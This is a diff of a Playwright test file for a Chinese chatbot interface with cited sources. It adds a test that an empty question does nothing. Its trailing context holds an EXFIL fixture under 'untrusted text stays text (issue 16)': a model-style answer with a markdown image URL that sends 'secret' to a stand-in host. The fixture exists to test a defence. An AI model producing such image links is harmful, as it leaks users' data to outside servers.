@@ -212,6 +212,19 @@ def test_new_conversation_clears_the_chat_and_sources(page):
     assert page.locator(".bitan-answer").count() == 0
 
 
+def test_enter_on_an_empty_box_does_nothing(page):
+    ask(page, "尧都区代表每月补助多少？")
+    bubbles = page.locator("#chatbot .message").count()
+    assert bubbles >= 2  # the question and its answer
+    cards = page.locator(".bitan-card").count()
+    page.fill("#question textarea", "   ")
+    page.keyboard.press("Enter")
+    page.wait_for_timeout(1500)  # give a (wrong) reply time to appear
+    assert page.locator("#chatbot .message").count() == bubbles
+    assert page.locator(".bitan-card").count() == cards and cards > 0
+    assert page.locator("#chatbot .bitan-notice").count() == 0
+
+
 # -- untrusted text stays text (issue 16) -------------------------------------------------------
 EXFIL = (
     "据钱荣新，宁城县组织开展代表履职评议[1]。\n\n![x](http://203.0.113.9/exfil?q=secret)\n\n"
